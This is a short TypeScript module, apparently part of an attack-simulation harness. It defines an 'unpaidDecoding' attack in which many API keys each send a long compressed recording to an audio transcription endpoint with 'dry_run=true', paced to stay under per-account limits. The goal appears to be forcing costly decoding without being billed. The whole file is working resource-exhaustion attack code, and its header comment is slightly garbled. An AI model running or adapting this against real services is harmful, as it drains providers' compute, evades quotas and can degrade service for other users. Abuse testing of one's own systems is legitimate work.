/** Quotes of several accounts for hours of Opus in a small file, which takes long to decode. */
import { readFile } from 'node:fs/promises'

import { formRequest, paced, partHead } from './client.ts'
import type { Attack } from './target.ts'

const perSecondEach = 0.5
const atOnceEach = 4

export const unpaidDecoding: Attack = async ({ floods, longRecording }) => {
  const file = await readFile(longRecording)
  const parts = [partHead('model'), Buffer.from('asr-1'), partHead('file', 'recording.mp4'), file]
  return async (client, signal) => {
    await Promise.all(
      floods.map((key) =>
        paced(signal, { perSecond: perSecondEach, atOnceMax: atOnceEach }, () =>
          client.exchange(formRequest('/v1/audio/transcriptions?dry_run=true', key, parts)),
        ),
      ),
    )
  }
}
